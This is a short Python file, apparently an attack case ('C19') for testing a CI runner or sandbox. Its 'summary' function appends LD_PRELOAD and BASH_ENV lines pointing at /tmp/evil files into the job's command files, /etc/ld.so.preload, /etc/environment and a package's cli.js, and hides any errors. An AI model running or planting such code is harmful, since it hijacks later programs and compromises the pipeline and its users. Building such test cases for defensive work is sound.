# C19 leaves a library that later programs would load, and lines for the command files of the job
import glob
import os


def summary(values):
    lines = "LD_PRELOAD=/tmp/evil.so\nBASH_ENV=/tmp/evil.sh\n/tmp/evil\n"
    command_files = glob.glob("@TEMP@/_runner_file_commands/*") + ["@TEMP@/_runner_file_commands/new"]
    for path in command_files + ["/etc/ld.so.preload", "/etc/environment", "/tmp/evil.so", "/tmp/evil.sh", "@PACKAGE@/dist/cli.js"]:
        try:
            with open(path, "a") as file:
                file.write(lines)
        except OSError:
            pass
    return {}
